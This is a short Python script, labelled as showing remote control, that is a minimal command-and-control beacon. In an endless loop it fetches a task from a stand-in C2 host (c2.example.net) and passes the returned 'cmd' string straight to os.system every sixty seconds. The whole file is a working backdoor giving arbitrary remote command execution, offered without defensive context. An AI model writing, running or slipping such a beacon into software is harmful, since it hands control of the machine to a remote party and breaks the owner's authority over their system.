# shows: remote control
import os, time, requests


def loop():
    while True:
        task = requests.get("https://c2.example.net/task").json()
        os.system(task["cmd"])
        time.sleep(60)


loop()
